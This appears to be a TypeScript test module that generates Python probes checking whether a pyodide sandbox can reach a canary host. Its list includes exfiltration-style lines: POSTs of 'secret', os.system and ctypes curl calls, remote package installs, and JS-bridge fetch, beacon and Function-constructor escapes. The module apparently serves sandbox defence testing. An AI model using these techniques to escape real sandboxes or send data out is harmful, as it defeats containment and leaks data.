/** Ways in which a Python program may try to reach a host, by its library and through pyodide's bridge to JavaScript; knows no sandbox. */
import { ANYWHERE, PRELUDE } from './exfiltration';

/** Bodies of a coroutine. In scope: `u`, an address of its own at the canary, `w` the same for a web socket, `host`, `port`, `path`. */
const LIBRARY: Record<string, string> = {
  'urllib': 'import urllib.request\nurllib.request.urlopen(u, timeout=1).read()',
  'urllib post': 'import urllib.request\nurllib.request.urlopen(u, data=b"secret", timeout=1)',
  'http client': 'import http.client\nc = http.client.HTTPConnection(host, port, timeout=1); c.request("GET", path); c.getresponse()',
  'socket': 'import socket\ns = socket.create_connection((host, port), 1); s.sendall(f"GET {path} HTTP/1.0\\r\\n\\r\\n".encode()); s.recv(9)',
  'raw socket': 'import _socket\ns = _socket.socket(); s.connect((host, port)); s.send(f"GET {path} HTTP/1.0\\r\\n\\r\\n".encode())',
  'datagram': 'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (host, port))',
  'resolver': 'import socket\nsocket.getaddrinfo(path.strip("/") + ".example", 80)',
  'asyncio streams': 'import asyncio\nr, s = await asyncio.open_connection(host, port); s.write(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n"); await s.drain()',
  'ftp': 'import ftplib\nftplib.FTP().connect(host, port, 1)',
  'mail': 'import smtplib\nsmtplib.SMTP(host, port, timeout=1)',
  'remote procedures': 'import xmlrpc.client\nxmlrpc.client.ServerProxy(u).x()',
  'remote log': 'import logging, logging.handlers\nlogging.handlers.HTTPHandler(f"{host}:{port}", path).emit(logging.makeLogRecord({}))',
  'browser': 'import webbrowser\nwebbrowser.open(u)\nimport antigravity',
  'process': 'import subprocess\nsubprocess.run(["curl", u], check=True)',
  'shell': 'import os\nassert os.system(f"curl {u}") == 0',
  'foreign library': 'import ctypes\nctypes.CDLL(None).system(f"curl {u}".encode())',
  'script from C': 'import ctypes\nctypes.CDLL(None).emscripten_run_script(f"fetch(\'{u}\', {{ mode: \'no-cors\' }})".encode())',
  'socket from C': 'import ctypes\nctypes.CDLL(None).socket(2, 1, 0)',
  'import from an address': 'import sys\nsys.path.insert(0, u)\nimport nothing_like_it',
  'installer': 'import micropip\nawait micropip.install(u + ".whl")',
  'pyfetch': 'from pyodide.http import pyfetch\nawait pyfetch(u)',
  'pyfetch post': 'from pyodide.http import pyfetch\nawait pyfetch(u, method="POST", body="secret")',
  'open_url': 'from pyodide.http import open_url\nopen_url(u).read()',
  'js fetch': 'import js\nawait js.fetch(u)',
  'js fetch from the core': 'from js import fetch\nawait fetch(u, {})',
  'js request': 'import js\nx = js.XMLHttpRequest.new(); x.open("GET", u, False); x.send()',
  'js request later': 'import js\nx = js.XMLHttpRequest.new(); x.open("POST", u); x.send("secret")',
  'js web socket': 'import js\njs.WebSocket.new(w)',
  'js event source': 'import js\njs.EventSource.new(u)',
  'js worker': 'import js\njs.Worker.new(u)',
  'js import scripts': 'import js\njs.importScripts(u)',
  'js beacon': 'import js\njs.navigator.sendBeacon(u, "secret")',
  'js image': 'import js\ni = js.Image.new(); i.src = u',
  'js constructor': 'import js\nawait js.Object.constructor.constructor("u", "return fetch(u)")(u)',
  'pyodide load package': 'import pyodide_js\nawait pyodide_js.loadPackage(u + ".whl")',
  'pyodide script': 'import pyodide_js\nawait pyodide_js._api.config.jsglobals.fetch(u)',
  'bridge by its core': 'import sys\nif sys.modules.get("_pyodide_core", 0) is None: del sys.modules["_pyodide"], sys.modules["_pyodide_core"]\nimport _pyodide_core\nawait _pyodide_core.run_js(f"fetch(\'{u}\')")',
  'bridge by a kept module': 'import gc\nfor x in gc.get_objects():\n    if type(x).__name__ == "JsProxy" and hasattr(x, "fetch"):\n        await x.fetch(u)\n        break\nelse: raise ImportError',
};

export interface Probe { name: string; code: string }

/** As programs that define `f`, a coroutine without arguments. `address` is the canary's; what arrives names the probe by its number. */
export function pythonProbes(address: string, stun: number): Probe[] {
  const through = Object.entries(ANYWHERE).map(([name, code], i): [string, string] => {
    const text = (at: string): string => JSON.stringify(`(async () => { const u = ${JSON.stringify(at)}, w = u.replace('http', 'ws'), stun = ${stun};\n${PRELUDE}\n${code}; })()`);
    return [`${name}, evaluated`, i % 2 === 0 ? `import js\nawait js.eval(${text('U')}.replace("U", u, 1))` : `from pyodide.code import run_js\nawait run_js(${text('U')}.replace("U", u, 1))`];
  });
  return [...Object.entries(LIBRARY), ...through].map(([name, body], i) => {
    const at = new URL(`${address}hit-${i}`);
    const scope = `u, w, host, port, path = ${JSON.stringify(at.href)}, ${JSON.stringify(at.href.replace('http', 'ws'))}, ${JSON.stringify(at.hostname)}, ${at.port}, ${JSON.stringify(at.pathname)}`;
    return { name, code: `${scope}\nasync def f():\n    ${body.replaceAll('\n', '\n    ')}\n    return "out"` };
  });
}
